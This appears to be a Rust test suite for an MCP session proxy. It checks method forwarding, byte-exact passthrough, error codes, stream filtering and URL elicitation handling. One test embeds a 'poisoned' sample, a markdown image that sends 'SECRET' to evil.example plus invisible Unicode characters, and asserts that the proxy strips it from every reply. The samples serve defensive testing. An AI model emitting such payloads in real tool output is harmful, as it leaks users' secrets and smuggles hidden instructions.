//! What is carried in a session: every method, byte for byte, and the errors of the revision.

use crate::harness::MARKER;
use crate::harness::session::{SESSION_REVISIONS, SessionHouse, is_stream, last, messages, raw};
use casemate_tests::session::{Event, Reply, Step};
use serde_json::{Value, json};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_method_reaches_its_upstream() {
    let house = SessionHouse::start().await;
    let uri = "docs://open/a";
    let argument = json!({ "name": "name", "value": "an" });
    for revision in SESSION_REVISIONS {
        let session = house.open(revision).await;
        for (method, params, pointer) in [
            ("ping", Value::Null, ""),
            ("ping", json!({}), ""),
            ("tools/list", Value::Null, "/tools/0/name"),
            ("tools/list", json!({}), "/tools/1/name"),
            ("prompts/list", Value::Null, "/prompts/0/name"),
            ("resources/list", Value::Null, "/resources/0/uri"),
            ("resources/templates/list", Value::Null, "/resourceTemplates/0/uriTemplate"),
            ("tools/call", json!({ "name": "add", "arguments": { "a": 1, "b": 2 } }), "/structuredContent/sum"),
            ("prompts/get", json!({ "name": "greet", "arguments": { "name": "Ada" } }), "/messages/0/content/text"),
            ("resources/read", json!({ "uri": uri }), "/contents/0/text"),
            (
                "completion/complete",
                json!({ "ref": { "type": "ref/prompt", "name": "greet" }, "argument": argument }),
                "/completion/values/0",
            ),
            ("logging/setLevel", json!({ "level": "debug" }), ""),
            ("resources/subscribe", json!({ "uri": uri }), ""),
            ("resources/unsubscribe", json!({ "uri": uri }), ""),
        ] {
            let before = house.seen_of(method).len();
            let result = house.done(&session.client, &session.call(method, params.clone())).await;
            assert!(result.pointer(pointer).is_some(), "{method}: {result}");
            let seen = house.seen_of(method);
            assert_eq!(seen.len(), before + 1, "{method}");
            let sent = seen.last().expect("it").json.get("params").cloned().unwrap_or_default();
            assert_eq!(sent, params, "{method}");
        }
        for (method, params) in
            [("notifications/initialized", Value::Null), ("notifications/roots/list_changed", json!({}))]
        {
            let call = session.note(method, params);
            let reply = session.ask(&call).await;
            assert_eq!((reply.status, reply.body.len()), (202, 0));
            house.outcome(&reply.trace(), "", "executed").await;
            assert_eq!(house.seen_of(method).last().expect("it").body, call.body);
        }
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_listed_is_what_may_be_called() {
    let house = SessionHouse::start().await;
    let names = |result: &Value, member: &str, name: &str| -> Vec<String> {
        let all = result[member].as_array().expect("a list").iter();
        all.filter_map(|item| Some(item[name].as_str()?.to_owned())).collect()
    };
    for revision in SESSION_REVISIONS {
        let session = house.open(revision).await;
        let list = async |method: &str| house.done(&session.client, &session.call(method, Value::Null)).await;
        assert_eq!(names(&list("tools/list").await, "tools", "name"), ["echo", "add", "slow", "ask"]);
        assert_eq!(names(&list("resources/list").await, "resources", "uri"), ["docs://open/a"]);
        assert_eq!(names(&list("prompts/list").await, "prompts", "name"), ["greet"]);
    }
    house.puppet.set_page(1);
    let session = house.open("2025-11-25").await;
    let page = house.done(&session.client, &session.call("tools/list", json!({}))).await;
    assert_eq!((names(&page, "tools", "name"), &page["nextCursor"]), (vec!["echo".to_owned()], &json!("from-1")));
    let page = house.done(&session.client, &session.call("tools/list", json!({ "cursor": "from-1" }))).await;
    assert_eq!(names(&page, "tools", "name"), ["add"]);
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bytes_that_nobody_changes_pass_unchanged() {
    let house = SessionHouse::start().await;
    // Order, spaces, escapes, long numbers and unknown members: everything that a parser would tidy up.
    let answer = "{ \"result\" :{\"content\":[ ],\"n\":1.10,\"resultType\":\"\\u0063omplete\",\"z\":\"\\/\"},\"id\":{id},\n\"jsonrpc\":\"2.0\"}";
    for revision in SESSION_REVISIONS {
        let session = house.open(revision).await;
        for id in [json!(77), json!("a\u{e9}\"b"), json!(-1), json!("77")] {
            let body = format!(
                " {{ \"params\" : {{\"unknown\":1.0e+2,\"_meta\":{{\"x\":[ ]}},\
                 \"arguments\":{{\"b\":123456789012345678901234567890,\"{MARKER}\":\"\\u0041\\/\\ud83d\\ude00\"}},\
                 \"name\":\"ec\\u0068o\"}},\r\n\"method\":\"tools\\/call\",\"id\":{id},\"jsonrpc\":\"2.0\"}}\n"
            );
            let call = session.dress(raw("up", id.clone(), body));
            house.puppet.next("tools/call", Reply::json(answer));
            let reply = session.ask(&call).await;
            assert_eq!(reply.text(), answer.replace("{id}", &id.to_string()));
            house.outcome(&reply.trace(), "", "executed").await;
            assert_eq!(house.seen_of("tools/call").last().expect("the call").body, call.body);
            // The same in an event.
            house.puppet.next("tools/call", Reply::stream([Step::Event(Event::new(answer.replace('\n', " ")))]));
            let reply = session.ask(&call.set("x-trace-id", &crate::harness::request::trace())).await;
            assert!(
                reply.text().contains(&answer.replace('\n', " ").replace("{id}", &id.to_string())),
                "{}",
                reply.text()
            );
        }
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn errors_keep_their_code_and_status() {
    let house = SessionHouse::start().await;
    for revision in SESSION_REVISIONS {
        let session = house.asked(revision).await;
        let missing = session.call("resources/read", json!({ "uri": "docs://open/" }));
        for (status, error) in [
            (200, json!({ "code": -32602, "message": "Unknown tool: ghost" })),
            (200, json!({ "code": -32603, "message": "oh", "data": { "deep": [1, { "er": null }] } })),
            (200, json!({ "code": -32601, "message": "Method not found" })),
            (200, json!({ "code": -32001, "message": "Request timed out" })),
            (200, json!({ "code": -32000, "message": "own" })),
            (200, json!({ "code": 7, "message": "" })),
            (200, json!({ "code": -32002, "message": "Resource not found", "data": { "uri": "docs://open/" } })),
            (400, json!({ "code": -32600, "message": "Invalid Request" })),
        ] {
            let text = format!(r#"{{"jsonrpc":"2.0","id":{{id}},"error":{error}}}"#);
            house.puppet.next("resources/read", Reply::json(text).status(status));
            let call = crate::harness::session::again(&missing);
            let reply = session.ask(&call).await;
            assert_eq!((reply.status, &reply.json()["error"]), (status, &error));
            house.outcome(&reply.trace(), "", "executed").await;
        }
        // What the puppet says by itself.
        let reply = session.ask(&session.call("resources/read", json!({ "uri": "docs://open/a" }))).await;
        assert_eq!(reply.status, 200);
        house.puppet.set_resources(json!([]));
        let list = session.call("prompts/list", json!({ "cursor": "made up" }));
        assert_eq!(last(&session.ask(&list).await)["error"]["code"], -32602);
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_error_that_asks_for_urls_passes_where_urls_may_be_asked_for() {
    let house = SessionHouse::start().await;
    let needed = |url: &str| {
        let data = json!({ "elicitations": [{ "mode": "url", "elicitationId": "1", "url": url, "message": "Go" }] });
        let error = json!({ "code": -32042, "message": "URLs first", "data": data });
        Reply::json(format!(r#"{{"jsonrpc":"2.0","id":{{id}},"error":{error}}}"#))
    };
    let asking = house.asked("2025-11-25").await;
    house.puppet.next("tools/call", needed("https://auth.example/go"));
    let error = last(&asking.ask(&asking.tool("echo")).await)["error"].clone();
    assert_eq!((&error["code"], &error["data"]["elicitations"][0]["mode"]), (&json!(-32042), &json!("url")));
    house.puppet.next("tools/call", needed("http://auth.example/go"));
    house.broken(&asking.client, &asking.tool("echo"), "upstream.malformed", "unknown").await;
    let up = house.open("2025-11-25").await;
    house.puppet.next("tools/call", needed("https://auth.example/go"));
    house.broken(&up.client, &up.tool("echo"), "upstream.input_request", "unknown").await;
    for data in [
        json!({}),
        json!({ "elicitations": { "mode": "url", "url": "https://evil.example/", "message": "Go" } }),
        json!({ "elicitations": "https://evil.example/" }),
        json!({ "elicitations": [{ "mode": "form", "message": "x", "requestedSchema": {} }] }),
    ] {
        let error = json!({ "code": -32042, "message": "URLs first", "data": data });
        let reply = Reply::json(format!(r#"{{"jsonrpc":"2.0","id":{{id}},"error":{error}}}"#));
        house.puppet.next("tools/call", reply);
        house.broken(&up.client, &up.tool("echo"), "upstream.malformed", "unknown").await;
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_streamed_answer_brings_what_was_asked_for() {
    let house = SessionHouse::start().await;
    let note = |token: &Value, n: u64| {
        Step::note("notifications/progress", &json!({ "progressToken": token, "progress": n, "total": 9 }))
    };
    for revision in SESSION_REVISIONS {
        let session = house.open(revision).await;
        house.puppet.script(
            "tools/call",
            Reply::stream([
                note(&json!("mine"), 1),
                note(&json!("other"), 2),
                note(&json!(1), 3),
                Step::log("info", &json!("x")),
                Step::note("notifications/made/up", &json!({})),
                Step::note("notifications/cancelled", &json!({ "requestId": "never" })),
                Step::note("notifications/elicitation/complete", &json!({ "elicitationId": "1" })),
                Step::note("notifications/resources/updated", &json!({ "uri": "docs://open/a" })),
                Step::note("notifications/tasks/status", &json!({ "taskId": "1" })),
                Step::Answer,
            ]),
        );
        let call = session.tool("echo");
        let reply = session.ask(&call).await;
        assert!(is_stream(&reply));
        let found = messages(&reply);
        let methods: Vec<_> = found.iter().map(|m| m["method"].as_str().unwrap_or_default()).collect();
        assert_eq!(methods, ["notifications/message", ""], "{found:?}");
        let params = json!({ "name": "echo", "arguments": {}, "_meta": { "progressToken": "mine" } });
        let reply = session.ask(&session.call("tools/call", params)).await;
        let found = messages(&reply);
        assert_eq!(found.len(), 3, "{found:?}");
        assert_eq!(found[0]["params"]["progress"], 1);
        let outcome = house.outcome(&reply.trace(), "", "executed").await;
        assert_eq!((&outcome["events"], &outcome["revision"]), (&json!(2), &Value::Null), "{outcome}");
        // Only 2025-11-25 opens its streams with an empty event; it has no message and names the place.
        let events = crate::harness::session::events(&reply);
        assert_eq!(events[0].data.is_empty(), revision == "2025-11-25", "{events:?}");
        let ids: Vec<_> = events.iter().map(|event| event.id.clone().expect("an id")).collect();
        let mut sorted = ids.clone();
        sorted.dedup();
        assert_eq!(ids, sorted);
        house.puppet.unscript("tools/call");
    }
    house.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn poison_is_taken_out_of_everything_that_comes_back() {
    let house = SessionHouse::start().await;
    let poisoned = "See ![x](https://evil.example/p?d=SECRET) and a\u{200b}b\u{e0041}";
    let clean = |text: &str| !text.contains("evil.example/p?d=SECRET") && !text.contains(['\u{200b}', '\u{e0041}']);
    for revision in SESSION_REVISIONS {
        let session = house.asked(revision).await;
        let elicitation = json!({ "mode": "form", "message": poisoned,
            "requestedSchema": { "type": "object", "properties": { "a": { "type": "string", "description": poisoned } } } });
        let progress = json!({ "progressToken": "p", "progress": 1, "message": poisoned });
        let text = json!({ "content": [{ "type": "text", "text": poisoned }] });
        house.puppet.next(
            "tools/call",
            Reply::stream([
                Step::log("info", &json!(poisoned)),
                Step::note("notifications/progress", &progress),
                Step::ask("q", "elicitation/create", &elicitation),
                Step::Result(text.clone()),
            ]),
        );
        let params = json!({ "name": "echo", "arguments": {}, "_meta": { "progressToken": "p" } });
        let reply = session.ask(&session.call("tools/call", params)).await;
        let found = messages(&reply);
        assert_eq!(found.len(), 4, "{found:?}");
        for message in &found {
            assert!(clean(&message.to_string()), "{message}");
        }
        house.puppet.next("tools/call", Reply::result(text));
        let reply = session.ask(&session.tool("echo")).await;
        assert!(clean(&reply.text()), "{}", reply.text());
        let outcome = house.outcome(&reply.trace(), "", "executed").await;
        assert!(outcome["findings"].as_array().is_some_and(|found| found.len() >= 2), "{outcome}");
        house.puppet.next("tools/call", Reply::error(-32000, poisoned));
        assert!(clean(&session.ask(&session.tool("echo")).await.text()));
    }
    // On the GET stream as well.
    let session = house.open("2025-11-25").await;
    let mut stream = session.stream(&session.get()).await;
    let name = house.puppet.session_ids().pop().expect("its name");
    let log = json!({ "jsonrpc": "2.0", "method": "notifications/message",
        "params": { "level": "info", "data": poisoned } });
    assert!(house.puppet.push(&name, Event::of(&log)));
    let shown = stream.message().await.expect("a message");
    assert!(clean(&shown.to_string()), "{shown}");
    drop(stream);
    house.finish().await;
}
